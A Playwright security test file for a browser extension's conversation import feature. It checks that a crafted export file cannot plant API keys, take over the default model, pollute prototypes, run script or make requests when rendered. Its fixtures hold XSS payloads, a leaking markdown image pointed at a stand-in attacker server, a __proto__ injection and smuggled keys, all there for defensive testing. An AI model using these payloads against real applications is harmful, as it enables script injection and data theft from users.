/**
 * Settings → Privacy & data's import is a way in: a file someone hands the user. Whatever it carries, it
 * cannot plant a provider or a key, make a request when its conversations are rendered in the panel, or run
 * script; and a web page cannot ask the background to import anything.
 */
import { serveStatic, type StaticServer } from '../harness/serve-static';
import { addFakeProvider, addProvider, callBackground, expect, openPanel, test } from '../e2e/fixtures';
import { findUnsafeMarkup } from './find-unsafe-markup';

let attacker: StaticServer;
test.beforeAll(async () => {
  attacker = await serveStatic({ '/page.html': '<!doctype html><title>Attacker</title><p>hello</p>' });
});
test.afterAll(async () => attacker?.close());

function craftedFile(base: string) {
  const hostile = [
    `![pixel](${base}/img.png?leak=1)`,
    `<img src="${base}/raw-img.png" onerror="window.__pwned=1">`,
    '<script>window.__pwned = 2</script>',
    `[click me](javascript:window.__pwned=3)`,
    `<iframe src="${base}/frame.html"></iframe>`,
    `<a href="${base}/a" ping="${base}/ping">link</a>`,
  ].join('\n\n');
  return {
    format: 'tabwise-export',
    version: 1,
    exportedAt: 1,
    conversations: [
      {
        conversation: {
          id: 'evil-conv',
          title: 'Crafted <img src=x onerror=window.__pwned=4>',
          createdAt: 1,
          updatedAt: 2,
        },
        messages: [
          { id: 'evil-u', conversationId: 'evil-conv', role: 'user', text: hostile, status: 'complete', createdAt: 1 },
          {
            id: 'evil-a',
            conversationId: 'evil-conv',
            role: 'assistant',
            text: hostile,
            status: 'complete',
            createdAt: 2,
            parts: [
              { kind: 'text', text: hostile },
              {
                kind: 'tool',
                toolCallId: 't',
                toolName: 'read_page',
                status: 'done',
                output: hostile,
                extra: '<script>x</script>',
              },
            ],
          },
        ],
      },
    ],
    memories: [{ id: 'evil-m', text: hostile, tags: [], createdAt: 1, url: `javascript:window.__pwned=5` }],
    skills: [],
    // Fields the format does not name: dropped, never stored.
    settings: {
      maxSteps: 3,
      defaultProviderId: 'evil',
      apiKey: 'sk-planted',
      providers: [{ id: 'evil', baseUrl: `${base}/v1`, apiKey: 'sk-planted' }],
    },
    // A provider travels without a key: the one smuggled in here is dropped, and the file cannot make it the default.
    providers: [
      {
        id: 'evil',
        kind: 'openai-compatible',
        name: 'Evil',
        baseUrl: `${base}/v1`,
        model: 'm',
        hadKey: false,
        apiKey: 'sk-planted',
        keyLast4: 'nted',
      },
    ],
  };
}

test('a crafted import plants no key and cannot take over the default model, and its conversation renders in the panel without a request or a script', async ({
  context,
  extensionId,
  llm,
  extPage,
}) => {
  const { id: fakeId } = await addFakeProvider(extPage, llm, 'm');
  await extPage.goto(`chrome-extension://${extensionId}/options.html#privacy`);
  await extPage.reload();
  const group = extPage
    .getByRole('region', { name: 'Privacy & data' })
    .getByRole('group', { name: 'Export and import' });
  // A "__proto__" key as JSON text (an object literal would set the prototype instead of carrying the key).
  const crafted = JSON.stringify(craftedFile(attacker.url)).replace(
    '"maxSteps":3',
    '"maxSteps":3,"__proto__":{"polluted":true}',
  );
  expect(crafted).toContain('"__proto__":{"polluted":true}');
  await group
    .getByLabel('Import from a file')
    .setInputFiles({ name: 'gift.json', mimeType: 'application/json', buffer: Buffer.from(crafted) });
  await expect(group.getByRole('status')).toContainText('Imported 1 conversation (2 messages), 1 memory');

  // The file's provider is listed as what it is (its endpoint shown), without a key, and is not the default.
  const providers = await callBackground<{ name: string; hasKey: boolean; keyLast4?: string }[]>(
    extPage,
    'providers.list',
    {},
  );
  expect(providers.map((p) => [p.name, p.hasKey, p.keyLast4])).toEqual([
    ['Fake', false, undefined],
    ['Evil', false, undefined],
  ]);
  const settings = await callBackground<Record<string, unknown>>(extPage, 'settings.get', {});
  expect(settings.defaultProviderId).toBe(fakeId);
  expect(JSON.stringify(settings)).not.toMatch(/planted|polluted|providers/);
  expect(await extPage.evaluate(() => (({}) as Record<string, unknown>).polluted)).toBeUndefined();

  // The memory list renders the text as text.
  await extPage.reload();
  await expect(
    extPage.getByRole('region', { name: 'Memories' }).locator('li[data-memory="evil-m"] .memory-text'),
  ).toContainText('<script>');

  const panel = await openPanel(context, extensionId);
  await panel.locator('header button[aria-expanded]').click();
  await panel
    .getByRole('navigation', { name: 'Past conversations' })
    .getByRole('button', { name: /Crafted/ })
    .first()
    .click();
  const answer = panel.locator('.message.assistant').last();
  await expect(answer).toBeVisible();
  await panel.waitForTimeout(1000);
  for (const md of await panel.locator('.message .markdown').elementHandles())
    expect(await md.evaluate(findUnsafeMarkup)).toEqual([]);
  for (const p of [panel, extPage])
    expect(await p.evaluate(() => (window as { __pwned?: number }).__pwned)).toBeUndefined();
  // Nothing rendered reached the attacker's host. The imported provider's endpoint is asked only for its model
  // list (the model switcher lists every provider's), keyless: no conversation goes there unless the user picks it.
  expect(attacker.requests.filter((path) => path !== '/v1/models')).toEqual([]);
});

test('a web page cannot import or export through the background', async ({ context, extPage }) => {
  const page = await context.newPage();
  await page.goto(`${attacker.url}/page.html`);
  const reach = await page.evaluate(
    () => typeof (globalThis as { chrome?: { runtime?: { sendMessage?: unknown } } }).chrome?.runtime?.sendMessage,
  );
  expect(reach).toBe('undefined');
  // The background still answers the extension's own page, and nothing was imported by the attempt.
  expect(await callBackground<unknown[]>(extPage, 'conversations.list', {})).toEqual([]);
});

test('a hostile import (wrong shapes, huge strings, a key where none belongs) is refused with a clear error and changes nothing', async ({
  extensionId,
  llm,
  extPage,
}) => {
  await addProvider(extPage, {
    kind: 'openai-compatible',
    name: 'Fake',
    baseUrl: llm.openaiBaseUrl,
    model: 'm',
    apiKey: 'sk-mine-1111',
  });
  await callBackground(extPage, 'index.settings.update', { enabled: false });
  const seenBefore = attacker.requests.length;
  await extPage.goto(`chrome-extension://${extensionId}/options.html#privacy`);
  await extPage.reload();
  const group = extPage
    .getByRole('region', { name: 'Privacy & data' })
    .getByRole('group', { name: 'Export and import' });
  const base = {
    format: 'tabwise-export',
    version: 1,
    exportedAt: 1,
    conversations: [],
    memories: [],
    skills: [],
    settings: {},
  };
  const provider = {
    id: 'x',
    kind: 'openai-compatible',
    name: 'Gift',
    baseUrl: `${attacker.url}/v1`,
    model: 'm',
    hadKey: false,
  };
  const state = async () =>
    JSON.stringify(
      await Promise.all(
        ['providers.list', 'settings.get', 'index.settings.get', 'conversations.list', 'memories.list'].map((r) =>
          callBackground(extPage, r, {}),
        ),
      ),
    );
  const before = await state();
  const cases: Array<[string, object, RegExp]> = [
    ['providers not a list', { ...base, providers: { evil: provider } }, /damaged at providers/],
    [
      'a provider of an unknown kind',
      { ...base, providers: [{ ...provider, kind: 'exec' }] },
      /damaged at providers\.0\.kind/,
    ],
    [
      'a huge provider name',
      { ...base, providers: [{ ...provider, name: 'A'.repeat(500_000) }] },
      /damaged at providers\.0\.name/,
    ],
    [
      'a provider on plain http to a remote host',
      { ...base, providers: [{ ...provider, baseUrl: 'http://evil.example/v1' }] },
      /damaged at providers\.0\.baseUrl/,
    ],
    [
      'a huge list of excluded sites',
      { ...base, remember: { enabled: true, deniedDomains: Array.from({ length: 5000 }, (_, i) => `s${i}.example`) } },
      /damaged at remember\.deniedDomains/,
    ],
    [
      'remember turned on with a broken pattern',
      { ...base, remember: { enabled: true, deniedPatterns: ['/((/'] } },
      /damaged at remember\.deniedPatterns\.0/,
    ],
    ['a remember setting of the wrong type', { ...base, remember: { enabled: 'yes' } }, /damaged at remember\.enabled/],
  ];
  for (const [what, file, message] of cases) {
    await group
      .getByLabel('Import from a file')
      .setInputFiles({ name: 'gift.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(file)) });
    await expect(group.getByRole('alert'), what).toContainText(message);
    await expect(group.getByRole('alert'), what).toContainText(/^Nothing was imported/);
    await expect(group.getByRole('status'), what).toHaveCount(0);
  }
  expect(await state()).toBe(before);

  // A key smuggled onto a provider never lands: the provider arrives keyless, the user's own key is untouched.
  const smuggled = {
    ...base,
    providers: [
      { ...provider, name: 'Fake', baseUrl: llm.openaiBaseUrl, apiKey: 'sk-planted-9999' },
      { ...provider, apiKey: 'sk-planted-8888' },
    ],
  };
  await group
    .getByLabel('Import from a file')
    .setInputFiles({ name: 'gift.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(smuggled)) });
  await expect(group.getByRole('status')).toContainText('1 provider');
  const providers = await callBackground<{ name: string; hasKey: boolean; keyLast4?: string }[]>(
    extPage,
    'providers.list',
    {},
  );
  expect(providers.map((p) => [p.name, p.hasKey, p.keyLast4])).toEqual([
    ['Fake', true, '1111'],
    ['Gift', false, undefined],
  ]);
  // At most its keyless model listing reaches the imported endpoint (the server is shared by this file's tests).
  expect(attacker.requests.slice(seenBefore).filter((path) => path !== '/v1/models')).toEqual([]);
});
